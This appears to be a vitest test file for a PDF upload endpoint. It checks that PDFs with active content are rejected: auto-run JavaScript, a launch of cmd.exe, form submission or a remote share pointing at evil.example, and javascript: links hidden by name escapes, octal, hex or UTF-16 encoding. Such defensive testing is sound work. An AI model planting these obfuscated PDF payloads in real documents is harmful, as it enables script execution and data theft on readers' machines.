// PDFs that would do something when they are opened are refused in words, however they hide it; others are taken.
import { expect, test } from 'vitest'
import { upload } from '#contract/calls/uploads.ts'
import { buildUser } from '#server/testing/build.ts'
import { openServer } from '#server/testing/fixtures.ts'
import * as samples from './testing/samples.ts'

const server = await openServer()
const user = await buildUser(server)

const send = (bytes: Buffer) =>
  server.send(upload, { purpose: 'rules' }, { as: user, files: { file: { bytes, name: 'rules.pdf' } } })

const opens = '<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'
test.each([
  ['a script', samples.pdfWith(opens)],
  ['a script under an escaped name', samples.pdfWith('<< /S /#4aava#53cript /JS 7 0 R >>')],
  ['a script of which only the short name is said', samples.pdfWith('<< /OpenAction << /#4AS (app.alert(1)) >> >>')],
  ['a program to start', samples.pdfWith('<< /S/Launch/F(cmd.exe) >>')],
  ['an attached file', samples.pdfWith('<< /Type /EmbeddedFile /Length 3 >>')],
  ['a script among packed objects', samples.pdfPacking(opens)],
  ['a form with scripts of its own', samples.pdfWith('<< /AcroForm << /Fields [] /XFA 5 0 R >> >>')],
  ['a form that sends what is typed', samples.pdfWith('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['a form that reads a file', samples.pdfWith('<< /S /ImportData /F (data.fdf) >>')],
  ['a way to another file', samples.pdfWith('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>')],
  ['a form that sends, among packed objects', samples.pdfPacking('<< /S /Submit#46orm /F (https://evil.example) >>')],
  ...[
    '(javascript:app.alert\\(1\\))',
    '( JavaScript:app.alert\\(1\\))',
    '(\\152ava\\163cript\\072x)',
    '(java\\\nscript:x)',
    '(\\376\\377\0j\0a\0v\0a\0s\0c\0r\0i\0p\0t\0:\0x)',
    '<6A6176 61736372697074 3a78>',
  ].flatMap((address): [string, Buffer][] => [
    [`a link to ${JSON.stringify(address)}`, samples.pdfWith(`<< /S /URI /URI ${address} >>`)],
    [`a packed link to ${JSON.stringify(address)}`, samples.pdfPacking(`<< /S/URI/#55RI${address} >>`)],
  ]),
  ['a link to a script that stands elsewhere', samples.pdfWith('<< /S /URI /URI 7 0 R >>\n7 0 obj\n(javascript:x)')],
  ['a link to one after a name', samples.pdfPacking('<< /S /URI /URI 8 0 R >> /X (javascript:x)')],
  ['a link to one after a comment', samples.pdfWith('<< /S /URI /URI % a comment\n(javascript:x) >>')],
  ['packed objects behind a lock', samples.pdfPacking('<< /Type /Page >>', 'trailer << /Encrypt 9 0 R >>\n')],
  ['packed objects that cannot be unpacked', Buffer.from(String(samples.pdfPacking('<< >>')).replace(/x\S/, '??'))],
  ['packed objects without end', samples.pdfPacking(' '.repeat(40 * samples.megabyte))],
])('a PDF with %s', async (_what, bytes) => {
  const { status, body } = await send(bytes)
  expect([status, body.fields]).toEqual([415, { file: expect.stringMatching(/^This PDF holds .* choose that one\.$/) }])
})

test.each([
  ['opens at a page, and speaks of scripts', '/OpenAction [3 0 R /Fit] /Title (JavaScript, /JSON and /Launching)'],
  ['has a link', '/A << /S /URI /URI (https://example.com/javascript:1) >> /B << /S /URI /URI <687474703A2F2F> >>'],
  [
    'has a link and is called after scripts',
    '/Title (JavaScript: what it is) /A << /S/URI/URI(mailto:a@example.com) >>',
  ],
  ['has a link whose address stands elsewhere', '/A << /S /URI /URI 7 0 R >> /Subject (https://example.com)'],
  ['goes to a page of its own', '/A << /S /GoTo /D [3 0 R /Fit] >> /B << /S /GoToRight >>'],
  ['has a plain form', '/AcroForm << /Fields [4 0 R] /NeedAppearances true >> /FT /Tx /T (Name) /V (Submit the form)'],
])('and a PDF that %s is none of these', async (_what, facts) => {
  const object = `<< /Type /Catalog ${facts} >>`
  for (const bytes of [samples.pdfWith(object), samples.pdfPacking(object)])
    expect((await send(bytes)).status).toBe(200)
})
